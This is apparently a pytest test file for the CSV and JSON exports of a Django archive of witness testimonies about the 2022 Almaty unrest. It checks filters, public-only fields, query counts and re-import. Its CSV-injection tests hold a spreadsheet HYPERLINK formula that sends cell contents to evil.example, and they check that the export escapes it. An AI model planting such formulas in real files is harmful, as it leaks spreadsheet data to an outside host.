"""Exports: the list page's filtered set as CSV and as the interchange JSON, streamed, with public fields only."""

import csv
import datetime
import io
import json
from decimal import Decimal

import pytest
from django.db.models import Prefetch
from django.http import StreamingHttpResponse
from django.utils import timezone

from testimony import interchange, public
from testimony.models import CrossReference, Place, Status, Tag, Testimony

from . import factories
from .conftest import CONFIDENTIAL_MARKER, DRAFT_MARKER, INTERNAL_NOTE_MARKER

Relation = CrossReference.Relation


@pytest.fixture
def collection(published, draft):
    """Two places (one inside the other), a source, an incident, a statement, links, the shared cast."""
    country = factories.make_place("Kazakhstan", kind=Place.Kind.COUNTRY, slug="kazakhstan", other_names="Қазақстан")
    almaty = factories.make_place(
        "Almaty",
        parent=country,
        kind=Place.Kind.CITY,
        slug="almaty",
        latitude=Decimal("43.25"),
        longitude=Decimal("76.9"),
    )
    source = factories.make_source("bne IntelliNews", slug="bne", url="https://www.intellinews.com/")
    incident = factories.make_incident("Storming of the akimat", slug="akimat", place=almaty)
    statement = factories.make_statement(
        "20,000 bandits attacked Almaty.", actor=factories.make_actor("Tokayev", slug="tokayev"), source=source
    )
    statement.incidents.set([incident])
    factories.make_statement(f"Draft claim {DRAFT_MARKER}", status=Status.DRAFT)
    published.place = almaty
    published.source = source
    published.source_url = "https://www.intellinews.com/a"
    published.source_published = datetime.date(2022, 2, 6)
    published.part_of_day = "night"
    published.save()
    published.tags.set([Tag.objects.get(slug="first-hand")])
    published.incidents.set([incident])
    elsewhere = factories.make_testimony("In Aktobe", date_start=datetime.date(2022, 1, 4))
    factories.make_cross_reference(published, statement, Relation.CONTRADICTS, note="Men with guns.")
    factories.make_cross_reference(published, elsewhere, Relation.CORROBORATES, note="Same pattern.")
    factories.make_cross_reference(published, draft, Relation.CONTEXT, note=f"Hidden {DRAFT_MARKER}")
    return {"published": published, "elsewhere": elsewhere, "statement": statement, "almaty": almaty}


def _body(response):
    assert isinstance(response, StreamingHttpResponse)
    return b"".join(response.streaming_content).decode("utf-8")


def _csv(response):
    return list(csv.DictReader(io.StringIO(_body(response))))


def test_csv_has_the_header_row_and_one_row_per_public_testimony(client, collection):
    response = client.get("/testimonies/export.csv")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="testimonies-{today}.csv"'
    text = _body(response)
    assert text.splitlines()[0] == (
        "identifier,title,body,language,translation,witness_descriptor,witness_role,date_start,date_end,"
        "part_of_day,is_date_approximate,place,source,source_url,source_published,collected_on,tags,incidents,"
        "status,retraction_note,url"
    )
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [row["title"] for row in rows] == ["In Aktobe", "Men in balaclavas handed out alcohol"]
    row = rows[1]
    published = collection["published"]
    assert row == {
        "identifier": published.identifier,
        "title": "Men in balaclavas handed out alcohol",
        "body": published.body,
        "language": "en",
        "translation": "",
        "witness_descriptor": "protester at Republic Square",
        "witness_role": "resident",
        "date_start": "2022-01-05",
        "date_end": "2022-01-05",
        "part_of_day": "night",
        "is_date_approximate": "false",
        "place": "almaty",
        "source": "bne",
        "source_url": "https://www.intellinews.com/a",
        "source_published": "2022-02-06",
        "collected_on": "",
        "tags": "first-hand",
        "incidents": "akimat",
        "status": "published",
        "retraction_note": "",
        "url": f"http://testserver/testimonies/{published.identifier}/",
    }


def test_csv_joins_several_tags_with_semicolons(client, published):
    published.tags.set(Tag.objects.filter(slug__in=["first-hand", "second-hand"]))

    (row,) = _csv(client.get("/testimonies/export.csv"))

    assert sorted(row["tags"].split(";")) == ["first-hand", "second-hand"]


def test_csv_names_tags_in_the_vocabulary_order_and_follows_a_change_of_tags(client, published):
    # A tag added last but placed first in its group: the vocabulary's order is not the order of the ids.
    first = Tag.objects.first()
    Tag.objects.create(group=first.group, name="Added last", slug="added-last", position=first.position - 1)
    in_order = list(Tag.objects.values_list("slug", flat=True))
    assert in_order[0] == "added-last"
    published.tags.set(Tag.objects.filter(slug__in=[in_order[-1], in_order[0], in_order[3]]))

    (row,) = _csv(client.get("/testimonies/export.csv"))
    assert row["tags"] == ";".join([in_order[0], in_order[3], in_order[-1]])

    published.tags.set(Tag.objects.filter(slug=in_order[2]))
    (row,) = _csv(client.get("/testimonies/export.csv"))
    assert row["tags"] == in_order[2]

    published.tags.clear()
    (row,) = _csv(client.get("/testimonies/export.csv"))
    assert row["tags"] == ""

    # An id the copy holds with no tag behind it names nothing (links go with their tag, and the copy with them).
    Testimony.objects.filter(pk=published.pk).update(tag_ids=f",{Tag.objects.first().pk},999999,")
    (row,) = _csv(client.get("/testimonies/export.csv"))
    assert row["tags"] == "added-last"


@pytest.fixture
def varied(db):
    """Public testimonies whose values try every kind of cell: formula-like text and slugs, empty dates, both
    booleans, several tags and incidents out of their order, links of each kind, one to a draft."""
    place = factories.make_place("Almaty", slug="-almaty")
    tags = list(Tag.objects.all())
    tags[0].slug = "-first"  # a slug a spreadsheet would read as a formula
    tags[0].save()
    incidents = [factories.make_incident(f"Incident {n}", slug=f"{'=' if n == 1 else ''}incident-{n}") for n in (2, 1)]
    first = factories.make_testimony(
        "=Plain formula",
        body="'@SUM(1)",
        translation="-В толпу",
        place=place,
        part_of_day="night",
        is_date_approximate=True,
        source_url="https://example.org/a",
        source_published=datetime.date(2022, 2, 6),
        tags=[tags[4], tags[0]],
        incidents=incidents,
    )
    bare = factories.make_testimony("Bare", date_end=datetime.date(2022, 1, 9), collected_on=datetime.date(2022, 3, 1))
    retracted = factories.make_testimony("+Withdrawn", tags=tags[1:3], status=Status.RETRACTED)
    retracted.retraction_note = "@source withdrew it"
    retracted.save()
    statement = factories.make_statement("A claim.")
    # Made in an order unlike the links' own (relation, then id), and two to drafts the exports leave out.
    factories.make_cross_reference(first, bare, Relation.CORROBORATES, note="=Same street.")
    factories.make_cross_reference(first, statement, Relation.CONTEXT, note="")
    factories.make_cross_reference(first, statement, Relation.CONTRADICTS, note="Denied.")
    factories.make_cross_reference(first, factories.make_testimony("Draft", status=Status.DRAFT), Relation.CONTEXT)
    draft_claim = factories.make_statement("A draft claim.", status=Status.DRAFT)
    factories.make_cross_reference(bare, draft_claim, Relation.CONTRADICTS, note="Not yet.")
    factories.make_cross_reference(retracted, first, Relation.CONTRADICTS, note="Disputed.")
    return {"tags": tags, "first": first, "bare": bare, "statement": statement}


def _url_for(identifier):
    return f"=https://archive.example/{identifier}"


def test_json_records_are_the_testimonies_public_values_with_their_links(varied):
    """The JSON writer brings each chunk's links itself; its records must be what the public values of each
    testimony say, its relations loaded as Django loads them (prefetched, in each model's order)."""
    public_rows = Testimony.objects.public().order_by("number")
    chunks = interchange.json_chunks(public_rows, url_for=_url_for, chunk_size=2)
    written = json.loads("".join(chunks))["testimonies"]

    links = CrossReference.objects.public().select_related("statement", "other_testimony")
    loaded = public_rows.prefetch_related("tags", "incidents", Prefetch("cross_references", queryset=links))
    expected = []
    for testimony in loaded:
        data = public.public_values(testimony)
        record = {"identifier": data.pop("identifier"), "url": _url_for(testimony.identifier), **data}
        record["cross_references"] = [
            {"relation": link.relation, "statement": link.statement.identifier, "note": link.note}
            if link.statement_id
            else {"relation": link.relation, "testimony": link.other_testimony.identifier, "note": link.note}
            for link in testimony.cross_references.all()
        ]
        expected.append(record)

    assert written == json.loads(json.dumps(expected, default=str))
    assert [list(record) for record in written] == [list(record) for record in expected]  # the keys' order too
    statement, bare = varied["statement"].identifier, varied["bare"].identifier
    assert written[0]["tags"] == ["-first", varied["tags"][4].slug]
    assert written[0]["cross_references"] == [
        {"relation": "context", "statement": statement, "note": ""},
        {"relation": "contradicts", "statement": statement, "note": "Denied."},
        {"relation": "corroborates", "testimony": bare, "note": "=Same street."},
    ]
    assert written[1]["cross_references"] == []  # its only link is to a draft statement


def test_csv_cells_are_those_of_the_json_export_records(varied):
    """The two writers read the same testimonies their own ways; a CSV row must be its JSON record's values as cells
    (the JSON records themselves are checked against the testimonies' public values above)."""
    public_rows = Testimony.objects.public().order_by("number")
    records = json.loads("".join(interchange.json_chunks(public_rows, url_for=_url_for)))["testimonies"]
    text = "".join(interchange.csv_chunks(public_rows, url_for=_url_for, chunk_size=2))
    written = list(csv.reader(io.StringIO(text)))

    def cell(value):
        if value is None:
            return ""
        if isinstance(value, bool):
            return "true" if value else "false"
        return interchange.csv_escape(";".join(value) if isinstance(value, list) else value)

    def row_of(record):
        values = {
            **record,
            "witness_descriptor": record["witness"]["descriptor"],
            "witness_role": record["witness"]["role"],
        }
        return [cell(values[column]) for column in interchange.CSV_COLUMNS]

    assert written[0] == list(interchange.CSV_COLUMNS)
    assert written[1:] == [row_of(record) for record in records]
    assert written[1][interchange.CSV_COLUMNS.index("tags")] == f"'-first;{varied['tags'][4].slug}"
    assert written[1][interchange.CSV_COLUMNS.index("incidents")] == "'=incident-1;incident-2"


# --- formula injection (OWASP "CSV Injection") -------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Watch the video")'
SPEECH = "- Они стреляли, - сказал он. - Прямо в толпу."


def test_a_body_that_looks_like_a_formula_is_exported_with_a_leading_apostrophe(client, published):
    published.body = HYPERLINK
    published.save()

    text = _body(client.get("/testimonies/export.csv"))

    assert '"\'=HYPERLINK(""https://evil.example/?leak=""&A1,""Watch the video"")"' in text
    (row,) = csv.DictReader(io.StringIO(text))
    assert row["body"] == "'" + HYPERLINK


def test_free_text_cells_are_guarded_and_generated_values_left_alone(client, published):
    published.title = "@SUM(1+1)"
    published.translation = "+7 700 000 00 00"
    published.witness.descriptor = "-protester"
    published.witness.save()
    published.save()

    (row,) = _csv(client.get("/testimonies/export.csv"))

    assert row["title"] == "'@SUM(1+1)"
    assert row["translation"] == "'+7 700 000 00 00"
    assert row["witness_descriptor"] == "'-protester"
    assert row["identifier"] == published.identifier
    assert row["date_start"] == "2022-01-05"
    assert row["url"] == f"http://testserver/testimonies/{published.identifier}/"


def test_a_formula_is_escaped_in_the_csv_export_and_left_verbatim_in_the_json_export(client, published):
    published.body = HYPERLINK
    published.title = "'=not a formula"
    published.save()

    (row,) = _csv(client.get("/testimonies/export.csv"))
    (record,) = json.loads(_body(client.get("/testimonies/export.json")))["testimonies"]

    assert (row["body"], row["title"]) == ("'" + HYPERLINK, "''=not a formula")
    assert (record["body"], record["title"]) == (HYPERLINK, "'=not a formula")


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        (SPEECH, "'" + SPEECH),
        ("@channel", "'@channel"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("'=1+1", "''=1+1"),
        ("''-1", "'''-1"),
        ("'quoted'", "'quoted'"),
        ("'", "'"),
        ("It's 1+1", "It's 1+1"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_csv_escape_is_undone_exactly_by_csv_unescape(text, cell):
    assert interchange.csv_escape(text) == cell
    assert interchange.csv_unescape(cell) == text


def test_a_body_opening_with_a_speech_dash_is_escaped_and_imports_back_byte_identical(client, published, tmp_path):
    from testimony import importing

    published.body = SPEECH
    published.save()
    exported = b"".join(client.get("/testimonies/export.csv").streaming_content)
    (row,) = csv.DictReader(io.StringIO(exported.decode()))
    assert row["body"] == "'" + SPEECH
    (tmp_path / "export.csv").write_bytes(exported)
    Testimony.objects.all().delete()

    report = importing.import_file(tmp_path / "export.csv", publish=True)

    assert report.ok and report.written, report.errors
    assert Testimony.objects.get().body == SPEECH
    assert b"".join(client.get("/testimonies/export.csv").streaming_content) == exported


def test_json_parses_and_holds_the_vocabulary_and_the_testimonies(client, collection):
    response = client.get("/testimonies/export.json")

    assert response.status_code == 200
    assert response["Content-Type"] == "application/json; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="testimonies-')
    text = _body(response)
    data = json.loads(text)
    assert data["format"] == "testimony-archive"
    assert data["version"] == 1
    assert data["source_url"] == "http://testserver/testimonies/export.json"
    vocabulary = data["vocabulary"]
    assert vocabulary["places"] == [
        {
            "slug": "kazakhstan",
            "name": "Kazakhstan",
            "other_names": "Қазақстан",
            "kind": "country",
            "parent": None,
            "latitude": None,
            "longitude": None,
        },
        {
            "slug": "almaty",
            "name": "Almaty",
            "other_names": "",
            "kind": "city",
            "parent": "kazakhstan",
            "latitude": "43.250000",
            "longitude": "76.900000",
        },
    ]
    assert {"slug": "proximity", "name": "Proximity", "position": 1}.items() <= vocabulary["tag_groups"][0].items()
    first_hand = next(tag for tag in vocabulary["tags"] if tag["slug"] == "first-hand")
    assert first_hand["group"] == "proximity"
    assert vocabulary["sources"] == [
        {
            "slug": "bne",
            "name": "bne IntelliNews",
            "kind": "publication",
            "url": "https://www.intellinews.com/",
            "description": "",
        }
    ]
    assert {"slug": "tokayev", "name": "Tokayev", "kind": "government", "office": "", "description": ""} in vocabulary[
        "actors"
    ]
    assert vocabulary["incidents"][0] == {
        "slug": "akimat",
        "name": "Storming of the akimat",
        "date_start": "2022-01-05",
        "date_end": "2022-01-05",
        "is_date_approximate": False,
        "place": "almaty",
        "description": "",
    }
    (statement,) = vocabulary["statements"]
    assert statement == {
        "identifier": collection["statement"].identifier,
        "actor": "tokayev",
        "made_on": "2022-01-05",
        "is_date_approximate": False,
        "claim": "20,000 bandits attacked Almaty.",
        "quote": "",
        "language": "en",
        "source": "bne",
        "source_url": "",
        "incidents": ["akimat"],
        "status": "published",
        "retraction_note": "",
    }
    assert [t["title"] for t in data["testimonies"]] == ["In Aktobe", "Men in balaclavas handed out alcohol"]
    record = data["testimonies"][1]
    published = collection["published"]
    assert record["identifier"] == published.identifier
    assert record["url"] == f"http://testserver/testimonies/{published.identifier}/"
    assert record["witness"] == {"descriptor": "protester at Republic Square", "role": "resident"}
    assert record["place"] == "almaty"
    assert record["tags"] == ["first-hand"]
    assert record["incidents"] == ["akimat"]
    assert record["collected_on"] is None
    assert record["published_at"].endswith("Z")
    assert record["cross_references"] == [
        {"relation": "contradicts", "statement": collection["statement"].identifier, "note": "Men with guns."},
        {"relation": "corroborates", "testimony": collection["elsewhere"].identifier, "note": "Same pattern."},
    ]


def test_json_puts_each_testimony_on_its_own_line(client, collection):
    lines = _body(client.get("/testimonies/export.json")).splitlines()

    testimony_lines = [line for line in lines if line.startswith('{"identifier": "T-')]
    assert len(testimony_lines) == 2
    for line in testimony_lines:
        assert json.loads(line.rstrip(","))["url"].startswith("http://testserver/testimonies/T-")
    assert lines[0].startswith('{"format": "testimony-archive", "version": 1, "exported": ')


@pytest.mark.parametrize("path", ["/testimonies/export.csv", "/testimonies/export.json"])
def test_exports_hold_no_draft_confidential_or_internal_text(client, collection, path):
    text = _body(client.get(path))

    assert DRAFT_MARKER not in text
    assert CONFIDENTIAL_MARKER not in text
    assert INTERNAL_NOTE_MARKER not in text
    for private in ("editor_notes", "created_by", "updated_by", "search_vector", "real_name", '"version": 2'):
        assert private not in text


@pytest.mark.parametrize("path", ["/testimonies/export.csv", "/testimonies/export.json"])
def test_exports_follow_the_list_filters(client, collection, path):
    text = _body(client.get(path, {"place": "kazakhstan"}))  # includes every place beneath it

    assert "Men in balaclavas handed out alcohol" in text
    assert "In Aktobe" not in text

    text = _body(client.get(path, {"date_to": "2022-01-04"}))
    assert "In Aktobe" in text
    assert "Men in balaclavas" not in text


@pytest.mark.parametrize("path", ["/testimonies/export.csv", "/testimonies/export.json"])
def test_the_export_of_a_search_holds_its_matches_and_makes_no_snippets(client, db, path, monkeypatch):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from testimony import search
    from testimony.search.excerpts import Highlighter

    factories.make_testimony("Barricades", body="Barricades stood on the avenue.")
    factories.make_testimony("Quiet", body="Nothing happened that night.")
    search.reindex()

    def excerpt(self, text):
        raise AssertionError("an export shows no snippets")

    monkeypatch.setattr(Highlighter, "excerpt", excerpt)  # PostgreSQL's snippets are cut in Python
    with CaptureQueriesContext(connection) as queries:
        text = _body(client.get(path, {"q": "barricades"}))
    assert "Barricades stood on the avenue." in text
    assert "Nothing happened" not in text
    assert not [q for q in queries.captured_queries if "snippet(" in q["sql"]]  # SQLite's snippet() alike


def test_exports_follow_the_statement_filter(client, collection):
    statement = collection["statement"].identifier

    rows = _csv(client.get("/testimonies/export.csv", {"statement": statement, "relation": "contradicts"}))

    assert [row["title"] for row in rows] == ["Men in balaclavas handed out alcohol"]


@pytest.mark.parametrize("path", ["/testimonies/export.csv", "/testimonies/export.json"])
@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({"date_from": "5 Jan"}, "Invalid parameter “date_from”: Enter a date as YYYY-MM-DD, for example 2022-01-05."),
        ({"place": "atlantis"}, "Invalid parameter “place”: No place matches “atlantis”. Choose one from the list."),
        ({"sort": "random"}, "Invalid parameter “sort”:"),
    ],
)
def test_bad_parameters_are_a_plain_400_naming_the_parameter(client, published, path, params, message):
    response = client.get(path, params)

    assert response.status_code == 400
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert message in response.content.decode()


def _make_rows(n, place):
    tags = list(Tag.objects.all()[:2])
    statement = factories.make_statement()
    for i in range(n):
        testimony = factories.make_testimony(f"Row {i}", place=place, incidents=[factories.make_incident()])
        testimony.tags.set(tags)
        factories.make_cross_reference(testimony, statement, Relation.CONTRADICTS)


@pytest.mark.parametrize(("path", "queries"), [("/testimonies/export.csv", 7), ("/testimonies/export.json", 16)])
def test_export_queries_do_not_grow_with_rows(client, db, django_assert_num_queries, path, queries):
    place = factories.make_place("Almaty", slug="almaty")
    _make_rows(10, place)
    # CSV: the 4 of the vocabulary the filters find the place and its subtree in (kept by each process outside
    # tests: KEEP_VOCABULARY), the tags' slugs, then per chunk the rows and their incidents.
    # JSON: the same 4; 8 for the file's vocabulary (statements bring their incidents); the tags' slugs; per chunk
    # the rows, their incidents and their cross-references.
    with django_assert_num_queries(queries):
        assert _body(client.get(path, {"place": "almaty"})).count("saw: Row ") == 10

    _make_rows(30, place)
    with django_assert_num_queries(queries):
        assert _body(client.get(path, {"place": "almaty"})).count("saw: Row ") == 40


def test_writers_query_per_chunk_not_per_row(db, django_assert_num_queries):
    place = factories.make_place()
    _make_rows(12, place)
    testimonies = Testimony.objects.public()

    def url_for(identifier):
        return f"/t/{identifier}"

    # 12 rows in chunks of 5: the tags' slugs once, the rows (one query on SQLite, which fetches them in one go, or
    # a server-side cursor on PostgreSQL), then each of the three chunks' incidents. Tags are named from each row's
    # copy of its links, with no query per chunk.
    with django_assert_num_queries(1 + 1 + 3):
        rows = list(
            csv.reader(io.StringIO("".join(interchange.csv_chunks(testimonies, url_for=url_for, chunk_size=5))))
        )
    assert len(rows) == 13

    # JSON: the file's vocabulary (8), the tags' slugs, the rows, then each chunk's incidents and cross-references.
    with django_assert_num_queries(8 + 1 + 1 + 2 * 3):
        data = json.loads("".join(interchange.json_chunks(testimonies, url_for=url_for, chunk_size=5)))
    assert len(data["testimonies"]) == 12
    assert all(record["cross_references"] for record in data["testimonies"])


@pytest.mark.parametrize("chunk_size", [2, interchange.CHUNK_SIZE])
def test_writers_stream_in_chunks(db, chunk_size):
    factories.make_testimonies(250)

    chunks = list(interchange.csv_chunks(Testimony.objects.public(), url_for=str, chunk_size=chunk_size))
    assert len(chunks) > 3
    assert chunks[0].startswith("identifier,title,")

    # The JSON export's testimonies come a few at a time too, not all at the end.
    chunks = list(interchange.json_chunks(Testimony.objects.public(), url_for=str, chunk_size=chunk_size))
    assert max(chunk.count('"identifier": "T-') for chunk in chunks) <= interchange.ROWS_PER_WRITE


def test_json_export_of_an_empty_archive_is_valid(client, db):
    data = json.loads(_body(client.get("/testimonies/export.json")))

    assert data["testimonies"] == []
    assert data["vocabulary"]["statements"] == []


def _empty_the_archive():
    """Remove every entry and the vocabulary an import brings back (the seeded credibility tags stay)."""
    from testimony.models import Actor, Incident, Source, Statement, Witness

    CrossReference.objects.all().delete()
    Testimony.objects.all().delete()
    Statement.objects.all().delete()
    Witness.objects.all().delete()
    Incident.objects.all().delete()
    Actor.objects.all().delete()
    Source.objects.all().delete()
    for place in Place.objects.order_by("-depth"):
        place.delete()


def test_json_export_imports_back_into_an_empty_archive(
    client, collection, tmp_path, django_capture_on_commit_callbacks
):
    from testimony import importing

    text = _body(client.get("/testimonies/export.json"))
    first = json.loads(text)
    path = tmp_path / "export.json"
    path.write_text(text, encoding="utf-8")
    _empty_the_archive()

    with django_capture_on_commit_callbacks(execute=True):
        report = importing.import_file(path, publish=True)

    assert report.ok, report.errors
    second = json.loads(_body(client.get("/testimonies/export.json")))
    assert second["vocabulary"] == first["vocabulary"]

    def comparable(record):
        return {key: value for key, value in record.items() if key != "published_at"}

    assert [comparable(t) for t in second["testimonies"]] == [comparable(t) for t in first["testimonies"]]
